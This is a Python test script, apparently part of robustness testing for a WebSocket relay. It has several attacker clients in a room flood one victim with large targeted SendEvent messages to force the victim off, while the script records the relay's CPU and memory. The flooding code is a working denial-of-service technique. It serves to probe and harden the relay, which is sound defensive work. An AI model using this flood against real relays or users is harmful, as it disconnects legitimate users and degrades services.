"""Targeted kick via events: A attackers in a room each burst ~128 KiB of SendEvent
(16 KB payloads, targets=[victim]) in the same instant. Victim reads as fast as it can.
REP=N names the victim N times in each event's targets (with PAY=0: events that are all
targets, the eighth round's "targets kick").
Usage: A=3 ROUNDS=1 python3 event_kick.py   (TR_URL, TR_PID set)"""
import asyncio, os, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from tr import *

A = int(os.environ.get("A", "3"))
PAY = int(os.environ.get("PAY", "16000"))
N = int(os.environ.get("N", "8"))
BROADCAST = os.environ.get("BCAST", "0") == "1"
REP = int(os.environ.get("REP", "1"))
ROOM = os.environ.get("ROOM", "evroom")

async def victim_reader(ws, stats):
    try:
        async for d in ws:
            stats["bytes"] += len(d)
            for m in decode(d).messages:
                k = m.WhichOneof("kind")
                stats[k] = stats.get(k, 0) + 1
                if k == "error":
                    stats.setdefault("errs", []).append((m.error.code, m.error.message[:60]))
    except Exception as e:
        stats["exc"] = repr(e)
    stats["close"] = close_info(ws)

async def main():
    pid = pid_of_relay()
    vws, vid = await member(ROOM)
    vstats = {"bytes": 0}
    vt = asyncio.create_task(victim_reader(vws, vstats))
    atk = [await member(ROOM) for _ in range(A)]
    readers = []
    astats = []
    for ws, _ in atk:
        s = {"bytes": 0}; astats.append(s)
        readers.append(asyncio.create_task(victim_reader(ws, s)))
    await asyncio.sleep(1.5)
    c0, t0 = cpu_secs(pid), time.time()
    targets = [] if BROADCAST else [vid] * REP
    msg = env(cm(event=pb.SendEvent(room=ROOM, kind="x", payload=b"A" * PAY, targets=targets)))
    print("event message bytes", len(msg), "victim id", vid)
    async def burst(ws):
        for _ in range(N):
            await ws.send(msg)
    await asyncio.gather(*[burst(ws) for ws, _ in atk])
    await asyncio.sleep(3)
    c1, t1 = cpu_secs(pid), time.time()
    print(f"victim: {vstats}")
    print(f"attackers close, errors: {[(s.get('close'), s.get('errs')) for s in astats]}")
    print(f"relay cpu {100*(c1-c0)/(t1-t0):.0f}%  rss {rss_kib(pid)} KiB")
    for ws, _ in atk:
        await ws.close()
    await vws.close()

asyncio.run(asyncio.wait_for(main(), 50))
